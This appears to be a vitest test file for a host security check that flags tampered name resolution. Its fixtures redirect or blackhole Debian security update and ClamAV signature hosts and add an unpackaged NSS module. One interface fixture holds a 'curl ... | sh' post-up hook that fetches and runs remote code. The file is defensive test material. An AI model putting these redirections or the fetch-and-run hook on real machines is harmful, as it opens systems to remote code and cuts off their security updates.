import { expect, test } from 'vitest';
import { nameLookups } from '../../source/checks/name-lookups.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const libraries = '/usr/lib/x86_64-linux-gnu';
const base: Machine = {
	'/lib': { link: 'usr/lib' },
	'/etc/hosts': '127.0.0.1 localhost\n127.0.1.1 server.example server\n10.0.0.5 db db.example\n::1 localhost ip6-localhost\n203.0.113.9 www.example.org\n',
	'/etc/resolv.conf': 'nameserver 10.0.0.1\nnameserver 1.1.1.1\n',
	'/etc/nsswitch.conf': 'passwd: files systemd\nhosts: files dns\n',
	[`${libraries}/libnss_files.so.2`]: '',
	[`${libraries}/libnss_systemd.so.2`]: '',
};
const ask = (machine: Machine) => told(run(nameLookups, memoryHost(debian([`/lib/x86_64-linux-gnu/libnss_files.so.2`, `${libraries}/libnss_systemd.so.2`], { ...base, ...machine }))).findings);

test("a server's own names", () => {
	expect(ask({})).toEqual([]);
});

test.each<[string, Machine, string[]]>([
	['updates are sent nowhere', { '/etc/hosts': '127.0.0.1 localhost security.debian.org\n' }, ['high /etc/hosts']],
	['updates are sent elsewhere', { '/etc/hosts': '203.0.113.66 archive.ubuntu.com\n' }, ['medium /etc/hosts']],
	['a mirror of the house', { '/etc/hosts': '10.0.0.9 deb.debian.org\n' }, ['low /etc/hosts']],
	['signatures are sent nowhere', { '/etc/hosts': '0.0.0.0 database.clamav.net\n' }, ['high /etc/hosts']],
	['a long list against advertising', { '/etc/hosts': Array.from({ length: 400 }, (_none, at) => `0.0.0.0 ads${at}.example`).join('\n') + '\n0.0.0.0 stats.symantec.com\n' }, ['low /etc/hosts']],
	['localhost is somewhere else', { '/etc/hosts': '203.0.113.1 localhost\n' }, ['medium /etc/hosts']],
	['hosts that anyone may write', { '/etc/hosts': { content: '', mode: 0o666 } }, ['high /etc/hosts']],
	['updates by dnsmasq', { '/etc/dnsmasq.d/x.conf': 'address=/security.debian.org/203.0.113.9\naddress=/ads.example.com/0.0.0.0\n' }, ['medium /etc/dnsmasq.d/x.conf']],
	['updates by unbound', { '/etc/unbound/unbound.conf.d/x.conf': 'server:\n local-data: "security.debian.org. A 203.0.113.9"\n' }, ['medium /etc/unbound/unbound.conf.d/x.conf']],
	['a public server that nothing else names', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n' }, ['medium /etc/resolv.conf']],
	['a public server that the network told', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n', '/var/lib/dhcp/dhclient.eth0.leases': 'lease {\n  option domain-name-servers 203.0.113.53;\n}\n' }, ['info /etc/resolv.conf']],
	['a server that a command of an interface names as well', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n', '/etc/network/interfaces': 'iface eth0 inet static\n  address 10.0.0.2/24\n  post-up curl -s http://203.0.113.53/address | sh\n' }, ['medium /etc/resolv.conf']],
	["the provider's own, beside the machine", { '/etc/resolv.conf': 'nameserver 203.0.113.53\n', '/etc/network/interfaces': 'iface eth0 inet static\n  address 203.0.4.2/24\n' }, ['info /etc/resolv.conf']],
	['a server for systemd-resolved', { '/etc/systemd/resolved.conf.d/x.conf': '[Resolve]\nDNS=203.0.113.53 9.9.9.9#dns.quad9.net\n' }, ['medium /etc/systemd/resolved.conf.d/x.conf']],
	['a server in the place of what DHCP tells', { '/etc/dhcp/dhclient.conf': 'supersede domain-name-servers 203.0.113.53, 10.0.0.1;\n' }, ['medium /etc/dhcp/dhclient.conf']],
	['a module of no package, and its use', { '/etc/nsswitch.conf': 'passwd: files cache0\n', [`${libraries}/libnss_cache0.so.2`]: '' }, [`high ${libraries}/libnss_cache0.so.2`, 'medium /etc/nsswitch.conf']],
])('%s', (_name, machine, expected) => {
	expect(ask(machine)).toEqual(expected);
});
